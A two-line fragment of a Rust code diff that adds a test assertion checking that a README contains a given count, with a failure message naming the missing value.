+    assert!(readme.contains(&count), "README does not say {count}");
 }
